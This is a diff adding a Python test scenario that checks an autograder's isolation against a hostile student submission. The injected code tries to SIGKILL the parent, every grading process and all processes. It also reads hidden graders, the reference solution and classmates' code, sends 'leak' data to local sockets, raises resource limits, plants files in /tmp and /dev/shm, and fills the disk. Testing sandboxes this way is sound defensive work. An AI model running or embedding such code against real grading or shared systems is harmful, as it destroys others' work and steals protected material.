@@ -1,0 +1,162 @@
+"""A class whose first-graded student attacks everyone else (issue #13), as a scenario run by
+``tests/test_autograder_class_hostile.py`` in its own process, as root and as an unprivileged user:
+
+    python -m tests.class_attack WORK_DIR      (prints one JSON object: what happened)
+
+The attacker (``aaa``, graded first) puts code at the top of ``seq2seq/__init__.py``, so that it runs in every
+one of its children, and tries: killing its parent (the zygote), every other grading child and zygote on the
+machine, the deciding process and every process it may signal; reading the hidden graders, the reference
+solution and other students' folders (the class's staging folders included); connecting to a TCP listener and
+sending to a UDP listener on this machine; raising its resource limits; leaving files in ``/tmp`` and
+``/dev/shm`` for another child; and (in ``set_seed``, Q4) filling the disk. It prints what happened to each
+attempt, then goes on as the solution. Two honest students hold copies of the solution, and an unrelated
+grading of the solution runs in parallel, in another process, while the class is graded.
+"""
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parent.parent
+SOLUTION = REPO / "solutions" / "attention_seq2seq"
+QUESTIONS = ["Q1", "Q2", "Q3", "Q4", "Q12", "Q13", "Q14", "Q16", "Q20"]
+ATTACKS = ["kill parent", "kill grading processes", "kill deciding process", "kill everything", "read graders",
+           "read reference", "read other students", "find other students", "tcp connect", "udp send", "raise memory limit",
+           "raise file limit", "write /tmp", "write /dev/shm"]
+
+ATTACK = '''
+def _attack():
+    import glob, os, pathlib, resource, signal, socket
+    report = []
+
+    def attempt(name, action):
+        try:
+            got = action()
+            report.append(f"ATTACK {name}: DONE {str(got)[:120]!r}")
+        except BaseException as error:
+            report.append(f"ATTACK {name}: refused ({type(error).__name__})")
+
+    def grading_pids():
+        found = []
+        for cmdline in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
+            try:
+                if b"autograder" in cmdline.read_bytes() and int(cmdline.parent.name) != os.getpid():
+                    found.append(int(cmdline.parent.name))
+            except (OSError, ValueError):
+                pass
+        return found
+
+    def kill_all(pids):
+        done = []
+        for pid in pids:
+            try:
+                os.kill(pid, signal.SIGKILL)
+                done.append(pid)
+            except OSError:
+                pass
+        if not done:
+            raise PermissionError("nothing could be killed")
+        return done
+
+    def every_pid():
+        os.kill(-1, signal.SIGKILL)  # returns 0 even when every process refused: the loop below tells
+        return [int(p.name) for p in pathlib.Path("/proc").glob("[0-9]*") if int(p.name) != os.getpid()]
+
+    def first_file(pattern):
+        for path in sorted(glob.glob(pattern, recursive=True)):
+            if os.path.realpath(path).startswith(os.path.realpath(os.getcwd())):
+                continue
+            return open(path).read()[:200]
+        raise FileNotFoundError(pattern)
+
+    def deciding_pid():
+        return int(pathlib.Path(f"/proc/{os.getppid()}/stat").read_text().rsplit(")", 1)[1].split()[1])
+
+    attempt("kill parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
+    attempt("kill grading processes", lambda: kill_all(grading_pids()))
+    attempt("kill deciding process", lambda: os.kill(deciding_pid(), signal.SIGKILL))
+    attempt("read graders", lambda: open(REPO + "/autograder/graders/grade_environment.py").read()[:200])
+    attempt("read reference", lambda: open(REPO + "/solutions/attention_seq2seq/seq2seq/model.py").read()[:200])
+    attempt("read other students", lambda: open(CLASS + "/bob/attention_seq2seq/seq2seq/model.py").read()[:200])
+    attempt("find other students", lambda: first_file("/tmp/**/seq2seq/model.py"))
+    attempt("tcp connect", lambda: socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2).send(b"leak"))
+    attempt("udp send", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", UDP_PORT)))
+    attempt("raise memory limit", lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))
+    attempt("raise file limit", lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (-1, -1)))
+    attempt("write /tmp", lambda: open(f"/tmp/attack-{MARK}", "w").write("for the next child"))
+    attempt("write /dev/shm", lambda: open(f"/dev/shm/attack-{MARK}", "w").write("for the next child"))
+    attempt("kill everything", lambda: kill_all(every_pid()))
+    print("\\n".join(report), flush=True)
+
+
+_attack()
+'''
+
+FILL_DISK = ('    import os\n    for i in range(64):\n'
+             '        open(f"fill-{i}", "wb").write(b"x" * (60 << 20))\n')
+
+
+def make_class(root: Path, mark: str, tcp_port: int, udp_port: int) -> Path:
+    from tests.helpers import inject
+
+    subs = root / "class"
+    attacker = subs / "aaa" / "attention_seq2seq"
+    shutil.copytree(SOLUTION, attacker, ignore=shutil.ignore_patterns("__pycache__"))
+    code = (ATTACK.replace("REPO", repr(str(REPO))).replace("CLASS", repr(str(subs))).replace("TCP_PORT", str(tcp_port))
+            .replace("UDP_PORT", str(udp_port)).replace("MARK", repr(mark)))
+    init = attacker / "seq2seq" / "__init__.py"
+    init.write_text(init.read_text() + code)
+    env = attacker / "seq2seq" / "environment.py"
+    env.write_text(inject(env.read_text(), "set_seed", FILL_DISK))
+    for honest in ("bob", "carol"):
+        shutil.copytree(SOLUTION, subs / honest / "attention_seq2seq", ignore=shutil.ignore_patterns("__pycache__"))
+    return subs
+
+
+def main(work: Path) -> dict:
+    from autograder import isolation
+    from autograder.bulk import grade_all
+
+    mark = f"{os.getpid()}-{time.monotonic_ns()}"
+    tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen()
+    tcp.setblocking(False)
+    udp.bind(("127.0.0.1", 0))
+    udp.setblocking(False)
+    subs = make_class(work, mark, tcp.getsockname()[1], udp.getsockname()[1])
+    bystander = subprocess.Popen(  # an unrelated grading of the solution, in parallel
+        [sys.executable, "-m", "autograder", "grade", str(SOLUTION), "--out", str(work / "bystander.json"),
+         "--questions", ",".join(QUESTIONS)], cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    started = time.monotonic()
+    rows = {row["student"]: row for row in grade_all(subs, work / "out", questions=QUESTIONS, progress=False)}
+    seconds = time.monotonic() - started
+    bystander_code = bystander.wait()
+    reached = []
+    for sock, kind in ((tcp, "tcp"), (udp, "udp")):
+        try:
+            sock.accept() if kind == "tcp" else sock.recv(100)
+            reached.append(kind)
+        except BlockingIOError:
+            pass
+    attacker = json.loads((work / "out" / "aaa" / "results.json").read_text())
+    return {
+        "rows": rows, "seconds": round(seconds, 1), "defences": isolation.plan().record(),
+        "bystander": json.loads((work / "bystander.json").read_text()) if bystander_code in (0, 3) else None,
+        "bystander_stderr": bystander.stderr.read().decode()[-500:],
+        "reached": reached, "left": [p for p in (f"/tmp/attack-{mark}", f"/dev/shm/attack-{mark}") if os.path.exists(p)],
+        "honest": {s: json.loads((work / "out" / s / "results.json").read_text()) for s in ("bob", "carol")},
+        "attacker_feedback": "\n".join(t["output"] for t in attacker["tests"]) + attacker.get("output", ""),
+        "attacker_status": attacker["extra_data"]["status"],
+    }
+
+
+if __name__ == "__main__":
+    sys.path.insert(0, str(REPO))
+    print(json.dumps(main(Path(sys.argv[1]))))
